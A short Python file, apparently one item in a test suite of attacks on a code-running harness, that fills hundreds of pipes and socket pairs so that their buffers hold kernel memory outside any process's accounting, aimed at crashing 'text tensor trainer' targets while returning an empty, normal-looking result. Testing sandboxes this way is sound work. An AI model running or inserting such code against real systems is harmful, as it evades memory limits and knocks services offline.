# attack: fills pipes and sockets, whose memory is the kernel's and in the size of no process
# group: d
# targets: text tensor trainer
# ends: wrong error crashed memory
# control: none: the memory goes with the process that runs the control

import contextlib
import fcntl
import os
import socket

PIPES = 400
SIZE = 2**20
held = []


def _fill(descriptor):
    os.set_blocking(descriptor, False)
    with contextlib.suppress(BlockingIOError):
        while True:
            os.write(descriptor, b"x" * 2**16)


def _pipe():
    reading, writing = os.pipe()
    held.append(reading)
    with contextlib.suppress(OSError):
        fcntl.fcntl(writing, fcntl.F_SETPIPE_SZ, SIZE)
    _fill(writing)


def _sockets():
    left, right = socket.socketpair()
    held.append(left)
    with contextlib.suppress(OSError):
        right.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SIZE)
    _fill(right.detach())


def attack(*args, **kwargs):
    for make in (_pipe, _sockets):
        with contextlib.suppress(OSError):
            for _ in range(PIPES):
                make()
    return {"messages": [], "text": ""}
